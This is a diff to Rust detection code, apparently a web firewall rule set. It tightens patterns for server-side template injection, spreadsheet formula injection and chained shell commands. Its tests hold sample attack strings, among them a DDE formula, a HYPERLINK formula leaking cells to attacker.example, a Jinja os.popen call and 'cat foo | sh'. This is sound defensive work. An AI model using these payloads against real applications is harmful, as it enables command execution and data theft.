@@ -306,9 +306,28 @@ impl Rce {
                 RCE_SSTI,
                 r"\{\{[^}]{0,120}\b(?:config|self|request|lipsum|cycler|joiner|namespace|url_for|get_flashed_messages|range\.constructor)\b[^}]{0,120}\}\}",
             ),
+            // Statements that reach outside the template (Tornado's `import`, Django's `load`
+            // and `debug`); `for`, `extends`, `set` and the like are every template's own
+            // syntax, counted from paranoia 2 (their dangerous forms have dunders).
             (
                 RCE_SSTI,
-                r"\{%\s*(?:import|include|extends|set|for|macro|call|filter|exec|debug|raw|load|module)\b[^%]{0,200}%\}",
+                r"\{%\s*(?:import|include|exec|debug|load|module)\b[^%]{0,200}%\}",
+            ),
+            (
+                RCE_SSTI_LOOSE,
+                r"\{%\s*(?:extends|set|for|macro|call|filter|raw)\b[^%]{0,200}%\}",
+            ),
+            // ERB, EEx and JSP scriptlets that run a command; XSLT functions that read the
+            // processor's properties, files or call into the host language.
+            (
+                RCE_SSTI,
+                r"<%[=-]?[^%]{0,200}(?:\bsystem\.cmd\b|:os\.cmd\b|\bsystem\s*\(|\bexec\s*\(|\bspawn\s*\(|\bio\.popen\b|%x\{|`[^`%]{1,80}`)[^%]{0,200}%>|\bsystem-property\s*\(\s*['\x22]xsl:|\bunparsed-text\s*\(|\bphp:function\s*\(|\bxalan:|\bjava:java\.lang\.",
+            ),
+            // Spreadsheet formulas at the start of a cell: DDE (`=cmd|' /C calc'!A0`), and a
+            // URL built from other cells (`=HYPERLINK("http://x/?"&A1, ...)`).
+            (
+                RCE_FORMULA,
+                r#"(?:^|[\n,;\t\x22])\s*[=+@-]\s*[a-z0-9_.]+\s*\|\s*'[^']*'\s*!|(?:^|[\n,;\t\x22])\s*[=+@-]\s*(?:hyperlink|importxml|importdata|importhtml|importfeed|image|webservice)\s*\(\s*['\x22]https?://[^'\x22]*['\x22]\s*&"#,
             ),
             (
                 RCE_SSTI,
@@ -588,11 +607,16 @@ impl Rce {
                 Sep::Substitution => sink.hit(RCE_SUBSTITUTION, text, start),
                 Sep::Chain => sink.hit(RCE_CHAINED_COMMAND, text, start),
                 Sep::Weak
-                    if strong
-                        || timed()
+                    if timed()
                         || match evidence() {
-                            Evidence::None => false,
-                            Evidence::End => !prose_ampersand(b, sep_end),
+                            Evidence::None => strong,
+                            // `Shoes & more`, `Python | SQL | AWS`: a list in prose. A
+                            // command that harms alone, or a shell fed by the pipe, still
+                            // counts.
+                            Evidence::End if prose_separator(b, sep_end) => {
+                                ALONE_COMMANDS.contains(&candidate.as_str())
+                                    || INTERPRETERS.contains(&candidate.as_str())
+                            }
                             _ => true,
                         } =>
                 {
@@ -698,14 +722,27 @@ fn media_param(s: &str) -> bool {
     })
 }
 
-/// The separator that ends at `sep_end` is ` & ` between a word and the command: `Shoes &
-/// more`, `Bread & butter`. An injected command follows an address, a number, a file name or
-/// a quote (`127.0.0.1 & id`), or is glued to its `&`.
-fn prose_ampersand(b: &[u8], sep_end: usize) -> bool {
+/// Shells, which run what a pipe feeds them (`... | sh`). Language names (`Python | SQL`)
+/// are left out: skill lists and titles have them.
+const INTERPRETERS: &[&str] = &[
+    "bash",
+    "cmd",
+    "dash",
+    "ksh",
+    "powershell",
+    "pwsh",
+    "sh",
+    "zsh",
+];
+
+/// The separator that ends at `sep_end` is ` & ` or ` | ` between a word and the command:
+/// `Shoes & more`, `Python | SQL | AWS`. An injected command follows an address, a number, a
+/// file name or a quote (`127.0.0.1 & id`), or is glued to its separator.
+fn prose_separator(b: &[u8], sep_end: usize) -> bool {
     let Some(before) = sep_end.checked_sub(2).map(|i| &b[..=i]) else {
         return false;
     };
-    b[sep_end - 1] == b'&'
+    matches!(b[sep_end - 1], b'&' | b'|')
         && before.last() == Some(&b' ')
         && b.get(sep_end) == Some(&b' ')
         && before
@@ -1193,6 +1230,52 @@ mod tests {
             assert!(hits(Kind::Value, "query:q", prose, 1).is_empty(), "{prose}");
         }
         for attack in ["127.0.0.1 & id", "x&id", "foo ; id", "foo & whoami"] {
+            assert!(
+                hits(Kind::Value, "query:q", attack, 1).contains(&RCE_CHAINED_COMMAND),
+                "{attack}"
+            );
+        }
+    }
+
+    #[test]
+    fn formulas_templates_and_lists() {
+        for (label, v) in [
+            (
+                "file-content:file",
+                "first,last\nAda,\"=cmd|' /C calc'!A0\"",
+            ),
+            (
+                "json:/description",
+                "=HYPERLINK(\"http://attacker.example/?leak=\"&A1&B1,\"View\")",
+            ),
+        ] {
+            assert!(hits(Kind::Value, label, v, 1).contains(&RCE_FORMULA), "{v}");
+        }
+        let link = "=HYPERLINK(\"https://docs.example.com/pricing#tiers\",\"Pricing rules\")";
+        assert!(!hits(Kind::Value, "json:/formula", link, 1).contains(&RCE_FORMULA));
+        for v in [
+            "Thanks <%= @name %>! <%= System.cmd(\"id\", []) %>",
+            "{% import os %}{{ os.popen('id').read() }}",
+            "<xsl:value-of select=\"system-property('xsl:vendor')\"/>",
+        ] {
+            assert!(
+                hits(Kind::Value, "json:/source", v, 1).contains(&RCE_SSTI),
+                "{v}"
+            );
+        }
+        let liquid = "{% for product in collections.all.products %}{{ product.title }}{% endfor %}";
+        assert!(!hits(Kind::Value, "json:/value", liquid, 1).contains(&RCE_SSTI));
+        assert!(hits(Kind::Value, "json:/value", liquid, 2).contains(&RCE_SSTI_LOOSE));
+        assert!(
+            hits(
+                Kind::Value,
+                "json:/headline",
+                "Data Engineer | Python | SQL | AWS",
+                1
+            )
+            .is_empty()
+        );
+        for attack in ["cat foo | sh", "x | whoami"] {
             assert!(
                 hits(Kind::Value, "query:q", attack, 1).contains(&RCE_CHAINED_COMMAND),
                 "{attack}"
